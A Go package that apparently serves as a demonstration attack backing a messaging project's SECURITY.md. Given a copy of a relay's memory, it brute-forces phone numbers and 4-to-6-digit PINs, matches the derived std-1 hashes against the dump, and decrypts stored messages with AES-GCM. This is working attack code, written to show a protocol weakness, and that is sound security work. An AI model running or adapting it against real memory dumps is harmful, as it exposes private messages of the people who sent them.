// Package dumpattack is an attacker who has a copy of a relay's memory and
// nothing else. It shows what SECURITY.md says of the two protocols: a room of
// std-1 follows from a telephone number, which can be guessed, and one of
// sotto-2 from a code, which can't. The relay must not import it.
package dumpattack

import (
	"bytes"
	"crypto/aes"
	"crypto/cipher"
	"crypto/pbkdf2"
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"math"
	"runtime"
	"slices"
	"sync"
)

// Region is memory that lay at an address.
type Region struct {
	Address uint64
	Bytes   []byte
}

// Dump is a copy of a process's memory, with an index. It is safe for
// concurrent use.
type Dump struct {
	regions []Region
	// words is a Bloom filter of every 8 bytes that follow each other.
	words []uint64
}

const filterBits = 28 // 32 MiB, which serves dumps of some 50 MB

// New indexes a dump. It keeps the regions, which must not change.
func New(regions []Region) *Dump {
	d := &Dump{regions: regions, words: make([]uint64, 1<<filterBits/64)}
	for _, r := range regions {
		for i := 0; i+8 <= len(r.Bytes); i++ {
			word := binary.LittleEndian.Uint64(r.Bytes[i:])
			if word == 0 {
				continue // most of it
			}
			at, bit := filterBit(word)
			d.words[at] |= bit
		}
	}
	return d
}

func filterBit(word uint64) (at, bit uint64) {
	n := word * 0x9e3779b97f4a7c15 >> (64 - filterBits)
	return n / 64, 1 << (n % 64)
}

// Has reports whether the hash is in the dump, wherever it stands.
func (d *Dump) Has(hash *[32]byte) bool {
	for i := 0; i < len(hash); i += 8 {
		if at, bit := filterBit(binary.LittleEndian.Uint64(hash[i:])); d.words[at]&bit == 0 {
			return false
		}
	}
	return slices.ContainsFunc(d.regions, func(r Region) bool { return bytes.Contains(r.Bytes, hash[:]) })
}

// at returns the size bytes from an address on, or nil.
func (d *Dump) at(address, size uint64) []byte {
	for _, r := range d.regions {
		if from := address - r.Address; address >= r.Address && from < uint64(len(r.Bytes)) && size <= uint64(len(r.Bytes))-from {
			return r.Bytes[from : from+size]
		}
	}
	return nil
}

// Plan is the numbers that a country gives out: a prefix with the country's code,
// digits only, followed by so many digits of any kind.
type Plan struct {
	Prefix string
	Digits int
}

// size is how many numbers there are.
func (p Plan) size() int { return int(math.Pow10(p.Digits)) }

func (p Plan) number(dst []byte, i int) []byte {
	return fmt.Appendf(dst, "%s%0*d", p.Prefix, p.Digits, i)
}

// Room is a room of std-1 that was opened.
type Room struct {
	Number string
	PINs   []string
	Texts  []string
}

// OpenStd1 tries every number of the plan and, where there is a room, every PIN of
// 4 to 6 digits. It takes all processors.
func (d *Dump) OpenStd1(plan Plan) []Room {
	var mu sync.Mutex
	var rooms []Room // guarded by mu
	var wg sync.WaitGroup
	workers := runtime.GOMAXPROCS(0)
	for w := range workers {
		wg.Go(func() {
			var number []byte
			for i := w; i < plan.size(); i += workers {
				number = plan.number(number[:0], i)
				if room := std1Room(number); d.Has(&room) {
					opened := d.openRoom(number, &room)
					mu.Lock()
					rooms = append(rooms, opened)
					mu.Unlock()
				}
			}
		})
	}
	wg.Wait()
	return rooms
}

// openRoom looks for the seats of a room, and for messages where their hashes are.
func (d *Dump) openRoom(number []byte, room *[32]byte) Room {
	opened := Room{Number: string(number)}
	var aead cipher.AEAD
	for digits := 4; digits <= 6; digits++ {
		for i := range (Plan{Digits: digits}).size() {
			pin := fmt.Appendf(nil, "%0*d", digits, i)
			access := std1Access(number, pin)
			if bearer := sha256.Sum256(access[:]); !d.Has(&bearer) {
				continue
			}
			opened.PINs = append(opened.PINs, string(pin))
			if aead == nil { // slow, so only now
				aead = newAEAD(std1Key(number, hex.EncodeToString(room[:])))
			}
			sender := std1Sender(number, &access, room)
			for _, text := range d.messages(&sender, aead) {
				if !slices.Contains(opened.Texts, text) {
					opened.Texts = append(opened.Texts, text)
				}
			}
		}
	}
	return opened
}

// messages opens what is pointed to from near the hash of an author, by
// whatever stands near it too and may be the iv: nothing need be known of how the
// relay lays out a message.
func (d *Dump) messages(sender *[32]byte, aead cipher.AEAD) (texts []string) {
	const near = 192
	for _, r := range d.regions {
		for from := 0; ; {
			at := bytes.Index(r.Bytes[from:], sender[:])
			if at < 0 {
				break
			}
			at += from
			from = at + 1
			around := r.Bytes[max(0, at-near)&^7 : min(len(r.Bytes), at+near)]
			for i := 0; i+24 <= len(around); i += 8 { // a slice: address, length, capacity
				address, size, space := word(around, i), word(around, i+8), word(around, i+16)
				if size > space || space > 1<<20 {
					continue
				}
				ciphertext := d.at(address, size)
				for j := 0; ciphertext != nil && j+aead.NonceSize() <= len(around); j++ {
					if text, err := aead.Open(nil, around[j:j+aead.NonceSize()], ciphertext, nil); err == nil {
						texts = append(texts, string(text))
					}
				}
			}
		}
	}
	return texts
}

func word(b []byte, i int) uint64 { return binary.LittleEndian.Uint64(b[i:]) }

// The derivations of std-1, which wire/PROTOCOL.md has in a table.

func std1Room(number []byte) [32]byte {
	return sum(number, ":stelegano-room-v1-2026")
}

func std1Access(number, pin []byte) [32]byte {
	return sum(number, ":", string(pin), ":stelegano-access-v1-2026")
}

func std1Sender(number []byte, access, room *[32]byte) [32]byte {
	return sum(number, ":", hex.EncodeToString(access[:]), ":", hex.EncodeToString(room[:]), ":stelegano-sender-v1-2026")
}

func std1Key(number []byte, room string) []byte {
	key, err := pbkdf2.Key(sha256.New, string(number), []byte(room+"stelegano-enc-v1-2026"), 600_000, 32)
	if err != nil {
		panic("dumpattack: " + err.Error()) // refuses parameters only, which are constants
	}
	return key
}

func sum(number []byte, rest ...string) [32]byte {
	text := append(make([]byte, 0, 256), number...)
	for _, s := range rest {
		text = append(text, s...)
	}
	return sha256.Sum256(text)
}

func newAEAD(key []byte) cipher.AEAD {
	block, err := aes.NewCipher(key)
	if err != nil {
		panic("dumpattack: " + err.Error()) // refuses lengths only
	}
	aead, err := cipher.NewGCM(block)
	if err != nil {
		panic("dumpattack: " + err.Error()) // refuses block sizes only
	}
	return aead
}
